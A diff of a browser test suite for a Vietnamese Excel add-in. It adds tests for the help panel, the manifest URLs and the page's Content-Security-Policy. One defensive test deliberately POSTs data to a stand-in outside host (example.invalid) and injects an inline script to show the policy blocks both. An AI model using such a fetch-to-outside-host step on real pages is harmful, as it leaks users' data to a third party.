@@ -10,7 +10,9 @@ import { SEVERITY_FILL } from '../../src/core/plan';
 import type { CheckResult, Severity, WorkbookModel } from '../../src/core';
 import {
   OUT,
+  PUBLIC_URL,
   RULES_FILE,
+  SITE,
   ROOT,
   SHOTS,
   WORKBOOK_NAME,
@@ -147,6 +149,12 @@ beforeAll(async () => {
     args: ['--no-sandbox', '--disable-gpu', '--disable-quic', '--no-first-run', '--disable-background-networking', '--disable-component-update', '--disable-sync'],
   });
   context = await browser.newContext({ viewport: { width: WIDTH, height: HEIGHT }, locale: 'vi-VN' });
+  // Every page keeps the Content-Security-Policy violations the browser reports to it.
+  await context.addInitScript(() => {
+    const w = window as unknown as { __csp: string[] };
+    w.__csp = [];
+    document.addEventListener('securitypolicyviolation', (e) => w.__csp.push(`${e.violatedDirective} ${e.blockedURI} (${e.sourceFile}:${e.lineNumber})`));
+  });
   page = await openPane();
 }, 300_000);
 
@@ -422,6 +430,7 @@ describe('task pane in Chromium', () => {
     console.log(`Thứ tự phím Tab: ${seen.join(' → ')}`);
     // Every control once, in reading order; each radio group is one stop (arrows move inside it).
     expect(seen).toEqual([
+      'help-toggle',
       'Trang "Chỉ tiêu" của sổ tính này',
       'insert-sample',
       'use-workbook',
@@ -449,7 +458,9 @@ describe('task pane in Chromium', () => {
   test('axe finds no serious or critical accessibility violation', async () => {
     const axeSource = await fs.readFile(require.resolve('axe-core/axe.min.js'), 'utf8');
     const check = async () => {
-      await page.addScriptTag({ content: axeSource });
+      // Evaluated through the browser's debugging protocol: a <script> tag of the test's own
+      // would be refused by the page's Content-Security-Policy, and reported as a violation.
+      await page.evaluate(axeSource);
       return page.evaluate(async () => {
         const axe = (window as unknown as { axe: { run(ctx: Document, o: object): Promise<{ violations: Array<{ id: string; impact: string; help: string; nodes: Array<{ target: unknown }> }> }> } }).axe;
         const r = await axe.run(document, { resultTypes: ['violations'] });
@@ -521,6 +532,88 @@ describe('task pane in Chromium', () => {
     await expectText(en.getByTestId('check'), 'Check');
     expect(await en.evaluate(() => document.documentElement.lang)).toBe('en');
     await en.close();
+  });
+
+  test('help inside the pane: what it does, the rules workbook with the sample button, each finding kind, unreadable files, Office versions', async () => {
+    await byTestId('help-toggle').click();
+    const help = byTestId('help');
+    await expectVisible(help);
+    expect(await byTestId('help-toggle').getAttribute('aria-expanded')).toBe('true');
+    for (const h of ['Công cụ làm gì', 'Bảng chỉ tiêu', 'Các loại phát hiện', 'Khi tệp không đọc được', 'Phiên bản Office'])
+      await expectVisible(help.getByRole('heading', { name: h, level: 3 }));
+    // Every kind of finding the engine gives, each with its meaning.
+    const kinds = await help.locator('li[data-kind]').evaluateAll((els) => els.map((e) => e.getAttribute('data-kind') ?? ''));
+    for (const f of [...byFiles.findings, ...byWorkbook.findings]) expect([f.kind, kinds.includes(f.kind)]).toEqual([f.kind, true]);
+    expect(await byTestId('help-versions').locator('tbody tr').count()).toBe(6);
+    await expectVisible(byTestId('help-insert-sample'));
+    await screenshot('huong-dan');
+    const axeSource = await fs.readFile(require.resolve('axe-core/axe.min.js'), 'utf8');
+    await page.evaluate(axeSource);
+    const violations = await page.evaluate(async () => {
+      const axe = (window as unknown as { axe: { run(ctx: Element, o: object): Promise<{ violations: Array<{ id: string; impact: string }> }> } }).axe;
+      return (await axe.run(document.querySelector('#help-panel')!, { resultTypes: ['violations'] })).violations.map((v) => `${v.impact} ${v.id}`);
+    });
+    expect(violations).toEqual([]);
+    await byTestId('help-toggle').click();
+    await expectCount(byTestId('help'), 0);
+  });
+
+  test('help.html, the support page of the manifest, in Vietnamese and in English', async () => {
+    const p = await context.newPage();
+    try {
+      await p.goto(server.url.replace('taskpane.html', 'help.html'));
+      await expectText(p.getByRole('heading', { level: 1 }), 'Kiểm tra chỉ tiêu – Hướng dẫn');
+      await expectVisible(p.getByRole('heading', { name: 'Phiên bản Office', level: 2 }));
+      // Outside Excel there is no workbook: no insert button.
+      expect(await p.getByTestId('help-insert-sample').count()).toBe(0);
+      await p.getByTestId('help-language').click();
+      await expectText(p.getByRole('heading', { level: 1 }), 'Target check – Help');
+      expect(await p.evaluate(() => document.documentElement.lang)).toBe('en');
+      expect(await p.evaluate(() => (window as unknown as { __csp: string[] }).__csp)).toEqual([]);
+    } finally {
+      await p.close();
+    }
+  });
+
+  test("the manifest the build wrote points at the office's address, at files the build wrote", async () => {
+    const xml = await fs.readFile(path.join(SITE, 'manifest.xml'), 'utf8');
+    const urls = [...xml.matchAll(/DefaultValue="(https:[^"]+)"/g)].map((m) => m[1]);
+    expect(urls.length).toBeGreaterThanOrEqual(9);
+    for (const u of urls) {
+      expect(u.startsWith(PUBLIC_URL)).toBe(true);
+      const file = path.join(SITE, decodeURIComponent(u.slice(PUBLIC_URL.length)));
+      expect([u, await fs.stat(file).then((s) => s.isFile(), () => false)]).toEqual([u, true]);
+    }
+    expect(xml).toContain('<SourceLocation DefaultValue="https://chitieu.example.vn/kiem-tra/taskpane.html"/>');
+    expect(xml).toContain('<SupportUrl DefaultValue="https://chitieu.example.vn/kiem-tra/help.html"/>');
+    expect([...xml.matchAll(/<AppDomain>([^<]*)<\/AppDomain>/g)].map((m) => m[1])).toEqual(['https://chitieu.example.vn']);
+    expect(xml).not.toContain('localhost');
+  });
+
+  test("the production page's Content-Security-Policy was in force, and no step broke it", async () => {
+    const csp = await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content');
+    expect(csp).toContain("script-src 'self' https://appsforoffice.microsoft.com");
+    expect(csp).toContain("connect-src 'self'");
+    expect(csp).not.toMatch(/unsafe-eval/);
+    // Every step above ran on `page`: check, flag, clear, rollup, filters, hidden sheet, help.
+    expect(await page.evaluate(() => (window as unknown as { __csp: string[] }).__csp)).toEqual([]);
+    // The policy bites: a request to another origin and an inline script are refused and reported.
+    const p = await context.newPage();
+    try {
+      await p.goto(server.url);
+      await p.waitForFunction(() => Number(document.querySelector('main')?.getAttribute('data-finished')) >= 1);
+      await p.evaluate(async () => {
+        await fetch('https://example.invalid/upload', { method: 'POST', body: 'số liệu' }).catch(() => undefined);
+        const s = document.createElement('script');
+        s.textContent = 'window.__inline = true;';
+        document.body.appendChild(s);
+      });
+      const seen = await soon(() => p.evaluate(() => (window as unknown as { __csp: string[] }).__csp), (v) => v.length >= 2);
+      expect(seen.map((v) => v.split(' ')[0]).sort()).toEqual(['connect-src', 'script-src-elem']);
+      expect(await p.evaluate(() => (window as unknown as { __inline?: boolean }).__inline)).toBeUndefined();
+    } finally {
+      await p.close();
+    }
   });
 
   test('makes no request outside localhost', async () => {
